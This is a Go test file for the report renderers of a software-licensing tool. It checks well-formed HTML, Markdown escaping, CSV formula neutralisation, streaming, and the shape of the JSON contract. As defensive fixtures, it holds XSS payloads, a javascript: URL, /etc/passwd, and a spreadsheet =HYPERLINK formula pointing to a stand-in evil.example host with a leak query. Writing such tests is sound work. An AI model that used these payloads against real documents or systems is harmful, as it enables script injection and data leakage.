package report_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/openrenewal/smartlicensing/report"
	"github.com/openrenewal/smartlicensing/report/reporttest"
	"github.com/openrenewal/smartlicensing/smartaccount"
)

// renderers are the four writers under one signature.
var renderers = []struct {
	name  string
	write func(io.Writer, *report.File) error
}{
	{"json", report.WriteJSON},
	{"csv", report.WriteCSV},
	{"markdown", func(w io.Writer, f *report.File) error {
		return report.WriteMarkdown(w, f, report.MarkdownParams{FindingsCSV: "findings.csv"})
	}},
	{"html", func(w io.Writer, f *report.File) error {
		return report.WriteHTML(w, f, report.HTMLParams{FindingsCSV: "findings.csv"})
	}},
}

func sampleFile(t testing.TB, findings int) *report.File {
	t.Helper()
	f, err := reporttest.File(findings)
	require.NoError(t, err)
	return f
}

// voidElements have no end tag in HTML.
var voidElements = []string{"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}

var (
	tagName = regexp.MustCompile(`^[a-zA-Z][a-zA-Z0-9-]*`)
	attr    = regexp.MustCompile(`^\s+([a-zA-Z_:][a-zA-Z0-9_:.-]*)(="([^"]*)")?`)
	entity  = regexp.MustCompile(`^&(#[0-9]+|#x[0-9a-fA-F]+|[a-zA-Z][a-zA-Z0-9]*);`)
)

// checkHTML is a small well-formedness check of the HTML WriteHTML writes:
// every element but the void ones is closed in order, every attribute
// value is double-quoted, every & starts an entity, no < stands in text.
// It returns the values of every href and src attribute.
func checkHTML(doc string) (links []string, err error) {
	var stack []string
	for i := 0; i < len(doc); {
		switch {
		case doc[i] == '&':
			if !entity.MatchString(doc[i:]) {
				return nil, fmt.Errorf("offset %d: a bare &: %q", i, clipAt(doc, i))
			}
			i++
		case doc[i] != '<':
			i++
		case strings.HasPrefix(doc[i:], "<!--"):
			end := strings.Index(doc[i:], "-->")
			if end < 0 {
				return nil, fmt.Errorf("offset %d: unclosed comment", i)
			}
			i += end + 3
		case strings.HasPrefix(doc[i:], "<!"):
			end := strings.IndexByte(doc[i:], '>')
			if end < 0 {
				return nil, fmt.Errorf("offset %d: unclosed declaration", i)
			}
			i += end + 1
		case strings.HasPrefix(doc[i:], "</"):
			name := tagName.FindString(doc[i+2:])
			if name == "" || len(doc) <= i+2+len(name) || doc[i+2+len(name)] != '>' {
				return nil, fmt.Errorf("offset %d: malformed end tag %q", i, clipAt(doc, i))
			}
			if len(stack) == 0 || stack[len(stack)-1] != name {
				return nil, fmt.Errorf("offset %d: </%s> closes %v", i, name, stack)
			}
			stack = stack[:len(stack)-1]
			i += 3 + len(name)
		default:
			name := tagName.FindString(doc[i+1:])
			if name == "" {
				return nil, fmt.Errorf("offset %d: a < in text: %q", i, clipAt(doc, i))
			}
			j := i + 1 + len(name)
			for {
				m := attr.FindStringSubmatch(doc[j:])
				if m == nil {
					break
				}
				if m[2] == "" && !slices.Contains([]string{"hidden", "open"}, m[1]) {
					return nil, fmt.Errorf("offset %d: attribute %s of <%s> has no quoted value", j, m[1], name)
				}
				if m[1] == "href" || m[1] == "src" {
					links = append(links, m[3])
				}
				j += len(m[0])
			}
			selfClosing := strings.HasPrefix(doc[j:], "/>")
			switch {
			case selfClosing:
				j += 2
			case strings.HasPrefix(doc[j:], ">"):
				j++
			default:
				return nil, fmt.Errorf("offset %d: malformed tag <%s: %q", j, name, clipAt(doc, j))
			}
			if name == "style" || name == "script" {
				end := strings.Index(doc[j:], "</"+name+">")
				if end < 0 {
					return nil, fmt.Errorf("offset %d: unclosed <%s>", i, name)
				}
				j += end
			}
			if !selfClosing && !slices.Contains(voidElements, name) {
				stack = append(stack, name)
			}
			i = j
		}
	}
	if len(stack) > 0 {
		return nil, fmt.Errorf("unclosed elements at the end: %v", stack)
	}
	return links, nil
}

func clipAt(s string, i int) string { return s[i:min(len(s), i+40)] }

func TestCheckHTMLCatchesMalformedHTML(t *testing.T) {
	bad := map[string]string{
		"unclosed":        "<html><body><p>x</body></html>",
		"crossed":         "<p><b>x</p></b>",
		"unquoted":        `<a href=x>y</a>`,
		"stray <":         "<p>1 < 2</p>",
		"bare &":          "<p>AT&T</p>",
		"end without tag": "</p>",
	}
	for name, doc := range bad {
		_, err := checkHTML(doc)
		assert.Error(t, err, name)
	}
	links, err := checkHTML(`<!DOCTYPE html><html><head><meta charset="utf-8"><style>a > b {}</style></head>` +
		`<body><p>a &amp; b &#39;</p><a href="x.csv">x</a><svg><rect x="1"/></svg></body></html>`)
	require.NoError(t, err)
	assert.Equal(t, []string{"x.csv"}, links)
}

// selfContained reports what in an HTML document could fetch or run
// something: a script, an event handler, a URL in a link or a stylesheet.
func selfContained(t *testing.T, doc string, links []string) {
	t.Helper()
	lower := strings.ToLower(doc)
	assert.NotContains(t, lower, "<script", "no script")
	assert.NotRegexp(t, `\son[a-z]+="`, lower, "no event handler attribute")
	assert.NotContains(t, lower, "@import", "no imported stylesheet")
	assert.NotContains(t, lower, "url(", "no CSS URL")
	for _, l := range links {
		assert.NotRegexp(t, `^(?i)([a-z][a-z0-9+.-]*:|//|\\)`, l, "link %q must be relative", l)
	}
}

func TestWriteHTMLIsWellFormedAndSelfContained(t *testing.T) {
	for _, tt := range []struct {
		name string
		f    *report.File
	}{
		{"small", smallFile()},
		{"sample", sampleFile(t, 5000)},
		{"empty", &report.File{}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			require.NoError(t, report.WriteHTML(&b, tt.f, report.HTMLParams{FindingsCSV: "findings.csv"}))
			links, err := checkHTML(b.String())
			require.NoError(t, err)
			selfContained(t, b.String(), links)
			for _, id := range []string{"summary", "hygiene", "rightsizing", "reconciliation", "slr", "true-forward",
				"reporting", "price-cap", "settlement", "evidence"} {
				assert.Contains(t, b.String(), `<section id="`+id+`">`)
			}
		})
	}
}

func TestWriteHTMLCharts(t *testing.T) {
	var b bytes.Buffer
	require.NoError(t, report.WriteHTML(&b, sampleFile(t, 100), report.HTMLParams{}))
	doc := b.String()
	// The four charts, each an inline SVG with its accessible name.
	for _, title := range []string{"Waterfall from the opening TCV to the target TCV", "Per-year totals",
		"Shortage per license", "Reports due per week"} {
		assert.Regexp(t, `<svg viewBox="0 0 760 \d+" role="img" aria-label="`+regexp.QuoteMeta(title), doc)
	}
	// The waterfall: the opening, seven steps, the target, each a bar.
	waterfall := doc[strings.Index(doc, "Waterfall from"):]
	waterfall = waterfall[:strings.Index(waterfall, "</svg>")]
	assert.Equal(t, 1, strings.Count(waterfall, `class="total"`))
	assert.Equal(t, 7, strings.Count(waterfall, `class="step"`))
	assert.Equal(t, 1, strings.Count(waterfall, `class="target"`))
	// Without a CSV name the file links to nothing but its own sections.
	links, err := checkHTML(doc)
	require.NoError(t, err)
	for _, l := range links {
		assert.True(t, strings.HasPrefix(l, "#"), "link %q", l)
	}
}

func TestFindingsCSVMustBeRelative(t *testing.T) {
	for _, name := range []string{"https://evil.example/f.csv", "//evil.example/f.csv", "/etc/passwd", "javascript:alert(1)", `\\host\share`} {
		var b bytes.Buffer
		assert.Error(t, report.WriteHTML(&b, smallFile(), report.HTMLParams{FindingsCSV: name}), name)
		assert.Error(t, report.WriteMarkdown(&b, smallFile(), report.MarkdownParams{FindingsCSV: name}), name)
	}
	var b bytes.Buffer
	require.NoError(t, report.WriteMarkdown(&b, smallFile(), report.MarkdownParams{FindingsCSV: "out/all findings (1).csv"}))
	assert.Contains(t, b.String(), "[out/all findings (1).csv](out/all%20findings%20%281%29.csv)")
}

// hostile is input text that tries to become markup, a script, a link or
// a formula.
const hostile = `=HYPERLINK("http://evil.example/?leak","click") <script>alert(1)</script> <img src=x onerror=alert(2)> ` +
	`"double" 'single' & tab` + "\t" + `cr` + "\r" + ` | pipe *em* _u_ [link](http://evil.example) ` + "`code`"

// hostileFile puts hostile text in every text field a renderer shows, and
// formula starters at the start of the finding fields the CSV writes.
func hostileFile() *report.File {
	f := smallFile()
	f.SmartAccount, f.Domain, f.Vendor = hostile, hostile, hostile
	for i := range f.Opening.Lines {
		f.Opening.Lines[i].SKU, f.Opening.Lines[i].License = hostile, "+"+hostile
	}
	for i := range f.Waterfall {
		f.Waterfall[i].Detail = hostile
	}
	f.Cap.Detail = hostile
	f.Reconciliation[0].VirtualAccount, f.Reconciliation[0].License = "-"+hostile, "@"+hostile
	f.Rightsizing.Transfers[0].From, f.Rightsizing.Transfers[0].To = hostile, "\t"+hostile
	f.Rightsizing.Dimensions[0].Values[0].Value = hostile
	f.Rightsizing.Licenses[0].License = hostile
	f.Hygiene.Licenses[0].License = hostile
	f.TrueForward.Milestones[0].License = hostile
	f.Scenarios[0].Name = hostile
	f.Missing[0].Input, f.Missing[0].Consequence = hostile, hostile
	f.Warnings = []string{hostile, "-" + hostile}
	f.Inputs[0].File = hostile
	starters := []string{"=", "+", "-", "@", "\t", "\r"}
	i := 0
	for _, m := range report.Moves {
		fs := f.Findings(m)
		for j := range fs {
			s := starters[i%len(starters)]
			i++
			fs[j].Kind = smartaccount.Kind(s + "kind")
			fs[j].License, fs[j].VirtualAccount, fs[j].User, fs[j].Detail = s+hostile, s+hostile, s+hostile, s+hostile
			fs[j].Evidence = append(fs[j].Evidence, smartaccount.Ref{Source: s + "cssm:devices", Record: hostile})
		}
	}
	return f
}

func TestHostileTextInHTML(t *testing.T) {
	var b bytes.Buffer
	require.NoError(t, report.WriteHTML(&b, hostileFile(), report.HTMLParams{FindingsCSV: "findings.csv"}))
	doc := b.String()
	links, err := checkHTML(doc)
	require.NoError(t, err, "hostile text must not break the document")
	selfContained(t, doc, links)
	assert.Contains(t, doc, "&lt;script&gt;alert(1)&lt;/script&gt;")
	assert.Contains(t, doc, "&lt;img src=x onerror=alert(2)&gt;")
	assert.Contains(t, doc, "&#34;double&#34; &#39;single&#39; &amp; tab")
	assert.NotContains(t, doc, "<img")
	assert.Equal(t, []string{"findings.csv"}, slices.Compact(slices.DeleteFunc(slices.Clone(links),
		func(l string) bool { return strings.HasPrefix(l, "#") })))
}

func TestHostileTextInMarkdown(t *testing.T) {
	var b bytes.Buffer
	require.NoError(t, report.WriteMarkdown(&b, hostileFile(), report.MarkdownParams{FindingsCSV: "findings.csv"}))
	doc := b.String()
	// No < is left unescaped (the renderer writes none of its own), so no
	// input text becomes HTML; no [ either but the CSV links'.
	for i := range len(doc) {
		switch doc[i] {
		case '*':
			if strings.HasPrefix(doc[i:], "**") || strings.HasPrefix(doc[i-1:], "**") {
				continue // the renderer's own bold total rows
			}
			assert.True(t, doc[i-1] == '\\', "unescaped * at %q", clipAt(doc, max(0, i-20)))
		case '<', '>', '`':
			assert.True(t, i > 0 && doc[i-1] == '\\', "unescaped %q at %q", doc[i], clipAt(doc, max(0, i-20)))
		case '[':
			if !strings.HasPrefix(doc[i:], "[findings.csv](findings.csv)") {
				assert.True(t, i > 0 && doc[i-1] == '\\', "unescaped [ at %q", clipAt(doc, max(0, i-20)))
			}
		}
	}
	assert.Contains(t, doc, `\<script\>alert(1)\</script\>`)
	assert.Contains(t, doc, `\[link\](http://evil.example)`)
	// A table row keeps its header's number of cells: input pipes are
	// escaped and line breaks folded.
	unescapedPipes := regexp.MustCompile(`(^|[^\\])\|`)
	var cells int
	for line := range strings.Lines(doc) {
		if !strings.HasPrefix(line, "|") {
			cells = 0
			continue
		}
		n := len(unescapedPipes.FindAllStringIndex(line, -1))
		if cells == 0 {
			cells = n
		}
		assert.Equal(t, cells, n, "row %q", line)
	}
	// A list item or paragraph that begins with "-" stays text.
	assert.Contains(t, doc, "\n- \\-=HYPERLINK")
}

func TestHostileTextInCSV(t *testing.T) {
	f := hostileFile()
	var b bytes.Buffer
	require.NoError(t, report.WriteCSV(&b, f))
	rows, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 1+f.FindingCount())
	assert.Equal(t, report.CSVHeader[:], rows[0])
	for _, row := range rows[1:] {
		for i, cell := range row {
			if report.CSVHeader[i] == "quantity" || report.CSVHeader[i] == "amount" {
				assert.Regexp(t, `^-?[0-9]+(\.[0-9]{2})?$`, cell, "numbers stay numbers")
				continue
			}
			if cell != "" {
				assert.NotContains(t, "=+-@\t\r", cell[:1], "column %s begins %q", report.CSVHeader[i], cell[:1])
			}
		}
	}
	// The first finding's cells began with "=": they now begin with "'",
	// the text kept whole after it.
	first := rows[1]
	assert.Equal(t, "'="+hostile, first[3], "license")
	assert.Equal(t, "'=kind", first[1], "kind")
}

func TestNeutralizeFormula(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"C9300 DNA Advantage", "C9300 DNA Advantage"},
		{`=HYPERLINK("http://x","y")`, `'=HYPERLINK("http://x","y")`},
		{"+1", "'+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"a=b", "a=b"},         // only the first character matters
		{"'quoted", "'quoted"}, // already text
	}
	for _, tt := range tests {
		assert.Equal(t, tt.want, report.NeutralizeFormula(tt.in), "%q", tt.in)
	}
}

// chunkWriter records how the renderer hands its output over.
type chunkWriter struct {
	writes, largest int
	total           int64
}

func (w *chunkWriter) Write(p []byte) (int, error) {
	w.writes++
	w.largest = max(w.largest, len(p))
	w.total += int64(len(p))
	return len(p), nil
}

// TestRenderersStream shows that the JSON and CSV of a file with many
// findings leave in small chunks, never as one document built in memory,
// and that the human formats stay short whatever the number of findings.
func TestRenderersStream(t *testing.T) {
	f := sampleFile(t, 50_000)
	for _, r := range renderers {
		t.Run(r.name, func(t *testing.T) {
			var w chunkWriter
			require.NoError(t, r.write(&w, f))
			switch r.name {
			case "json", "csv":
				assert.Greater(t, w.total, int64(5<<20), "a finding a row: megabytes")
				assert.LessOrEqual(t, w.largest, 300<<10, "handed over in chunks of a few hundred KiB")
				assert.Greater(t, w.writes, 10, "many writes, not one document")
			default:
				assert.Less(t, w.total, int64(200<<10), "the summary of 50,000 findings stays short")
			}
		})
	}
}

func TestLongListsAreCut(t *testing.T) {
	f := sampleFile(t, 2_000)
	var b bytes.Buffer
	require.NoError(t, report.WriteMarkdown(&b, f, report.MarkdownParams{FindingsCSV: "findings.csv", Top: 3}))
	doc := b.String()
	// reporttest gives clean-up 2,000 − 200 − 40 − 160 − 100 − 100 = 1,400
	// findings: 3 shown, 1,397 counted.
	assert.Contains(t, doc, "1,400 findings, by kind:")
	assert.Contains(t, doc, "… and 1,397 more (findings.csv)")
	// 23 transfers: 3 shown.
	assert.Contains(t, doc, "… and 20 more (in the JSON file)")
}

var errFull = errors.New("disk full")

// failingWriter fails once n bytes were written.
type failingWriter struct{ n int }

func (w *failingWriter) Write(p []byte) (int, error) {
	if len(p) > w.n {
		k := w.n
		w.n = 0
		return k, errFull
	}
	w.n -= len(p)
	return len(p), nil
}

func TestRenderersReturnWriteErrors(t *testing.T) {
	f := sampleFile(t, 3_000)
	for _, r := range renderers {
		for _, after := range []int{0, 1000, 20_000} {
			t.Run(fmt.Sprintf("%s/after %d bytes", r.name, after), func(t *testing.T) {
				err := r.write(&failingWriter{n: after}, f)
				assert.ErrorIs(t, err, errFull)
			})
		}
	}
}

// TestJSONContract checks the keys DESIGN.md's contract names, in its
// order, and the shapes of money, percentages, dates and evidence, on the
// sample-shaped file.
func TestJSONContract(t *testing.T) {
	var b bytes.Buffer
	require.NoError(t, report.WriteJSON(&b, sampleFile(t, 600)))
	require.True(t, json.Valid(b.Bytes()))

	top := keysOf(t, b.Bytes())
	contract := []string{"smart_account", "as_of", "currency", "opening", "target", "waterfall", "recovery",
		"reconciliation", "hygiene", "virtual_accounts", "true_forward", "slp", "slr", "evidence"}
	assert.Equal(t, contract, top[:len(contract)], "the contract's keys first, in its order")

	var doc struct {
		AsOf    string `json:"as_of"`
		Opening struct {
			TCV      string `json:"tcv"`
			NPV      string `json:"npv"`
			Schedule []struct {
				Year   int    `json:"year"`
				Amount string `json:"amount"`
			} `json:"schedule"`
			Lines []map[string]any `json:"lines"`
		} `json:"opening"`
		Waterfall []struct {
			Step          string `json:"step"`
			Amount        string `json:"amount"`
			EvidenceCount int    `json:"evidence_count"`
		} `json:"waterfall"`
		Recovery struct{ Amount, Percent string } `json:"recovery"`
		Hygiene  struct {
			Findings []struct {
				Kind, Severity, License string
				VirtualAccount          string `json:"virtual_account"`
				Quantity                int64
				Amount                  string
				Evidence                []string
			} `json:"findings"`
		} `json:"hygiene"`
		VirtualAccounts struct {
			FragmentedShortage int64            `json:"fragmented_shortage"`
			PooledShortage     int64            `json:"pooled_shortage"`
			ByLicense          []map[string]any `json:"by_license"`
			ByDimension        map[string][]any `json:"by_dimension"`
			Transfers          []map[string]any `json:"transfers"`
		} `json:"virtual_accounts"`
		TrueForward struct {
			Milestones []map[string]any `json:"milestones"`
		} `json:"true_forward"`
		SLP struct {
			InstancesByStatus map[string]int `json:"instances_by_status"`
			ReportingWave     struct {
				StageBy string `json:"stage_by"`
			} `json:"reporting_wave"`
		} `json:"slp"`
		Evidence struct {
			Inputs []map[string]any `json:"inputs"`
		} `json:"evidence"`
	}
	require.NoError(t, json.Unmarshal(b.Bytes(), &doc))
	money := regexp.MustCompile(`^-?[0-9]+\.[0-9]{2}$`)
	dateRE := regexp.MustCompile(`^[0-9]{4}-[0-9]{2}-[0-9]{2}$`)
	assert.Regexp(t, dateRE, doc.AsOf)
	assert.Regexp(t, dateRE, doc.SLP.ReportingWave.StageBy)
	assert.Regexp(t, money, doc.Opening.TCV)
	assert.Regexp(t, money, doc.Opening.NPV)
	assert.Regexp(t, money, doc.Recovery.Amount)
	assert.Regexp(t, money, doc.Recovery.Percent)
	require.Len(t, doc.Opening.Schedule, 5)
	for i, y := range doc.Opening.Schedule {
		assert.Equal(t, i+1, y.Year)
		assert.Regexp(t, money, y.Amount)
	}
	for _, l := range doc.Opening.Lines {
		for _, k := range []string{"sku", "license", "category", "quantity", "unit_price", "tcv"} {
			assert.Contains(t, l, k)
		}
	}
	steps := make([]string, len(doc.Waterfall))
	for i, s := range doc.Waterfall {
		steps[i] = s.Step
		assert.Regexp(t, money, s.Amount)
		assert.Positive(t, s.EvidenceCount)
	}
	assert.Equal(t, []string{report.StepHygiene, report.StepRightsizing, report.StepReconciliation, report.StepTrueForward,
		report.StepRightTiering, report.StepPriceCap, report.StepBenchmarkDiscount}, steps)
	require.NotEmpty(t, doc.Hygiene.Findings)
	for _, fd := range doc.Hygiene.Findings {
		assert.Regexp(t, money, fd.Amount)
		require.NotEmpty(t, fd.Evidence)
		assert.Regexp(t, `^[a-z_]+\.(csv|json):[0-9]+$`, fd.Evidence[0])
	}
	assert.Len(t, doc.VirtualAccounts.ByDimension, 4)
	for _, k := range []string{"license", "license_type", "from", "to", "quantity"} {
		assert.Contains(t, doc.VirtualAccounts.Transfers[0], k)
	}
	for _, k := range []string{"date", "license", "consumption", "entitlement", "overage", "billable", "charge", "attribution"} {
		assert.Contains(t, doc.TrueForward.Milestones[0], k)
	}
	for _, k := range []string{"file", "sha256", "records"} {
		assert.Contains(t, doc.Evidence.Inputs[0], k)
	}
}

// keysOf returns the keys of the top-level object in document order.
func keysOf(t *testing.T, doc []byte) []string {
	t.Helper()
	dec := json.NewDecoder(bytes.NewReader(doc))
	_, err := dec.Token()
	require.NoError(t, err)
	var keys []string
	for dec.More() {
		tok, err := dec.Token()
		require.NoError(t, err)
		keys = append(keys, tok.(string))
		var skip json.RawMessage
		require.NoError(t, dec.Decode(&skip))
	}
	return keys
}

// FuzzHostileText puts arbitrary text in the fields the human formats show
// and checks that the HTML stays well-formed and self-contained, that the
// Markdown leaves no < unescaped, and that no CSV cell can start a formula.
// One execution renders three formats (tens of milliseconds): fuzz with
// -fuzzminimizetime 0, or the engine spends minutes minimising each new
// input.
func FuzzHostileText(f *testing.F) {
	for _, s := range []string{hostile, "", "<", "&", "]]>", "<!--", "</section>", "\x00\xff", "=1+1", "\r\n|x|", "{{.}}"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		file := smallFile()
		file.SmartAccount, file.Vendor, file.Cap.Detail = s, s, s
		file.Waterfall[0].Detail = s
		file.Warnings = []string{s}
		file.Rightsizing.Transfers[0].From = s
		for _, m := range report.Moves {
			fs := file.Findings(m)
			for i := range fs {
				fs[i].License, fs[i].VirtualAccount, fs[i].Detail = s, s, s
			}
		}
		var h bytes.Buffer
		require.NoError(t, report.WriteHTML(&h, file, report.HTMLParams{}))
		links, err := checkHTML(h.String())
		require.NoError(t, err)
		for _, l := range links {
			require.True(t, strings.HasPrefix(l, "#"), "link %q", l)
		}
		require.NotContains(t, strings.ToLower(h.String()), "<script")

		var m bytes.Buffer
		require.NoError(t, report.WriteMarkdown(&m, file, report.MarkdownParams{}))
		md := m.String()
		for i := range len(md) {
			if md[i] == '<' {
				require.True(t, i > 0 && md[i-1] == '\\', "unescaped < at %q", clipAt(md, max(0, i-20)))
			}
		}

		var c bytes.Buffer
		require.NoError(t, report.WriteCSV(&c, file))
		rows, err := csv.NewReader(&c).ReadAll()
		require.NoError(t, err)
		for _, row := range rows[1:] {
			for i, cell := range row {
				if cell != "" && report.CSVHeader[i] != "quantity" && report.CSVHeader[i] != "amount" {
					require.NotContains(t, "=+-@\t\r", cell[:1], "column %s", report.CSVHeader[i])
				}
			}
		}
	})
}
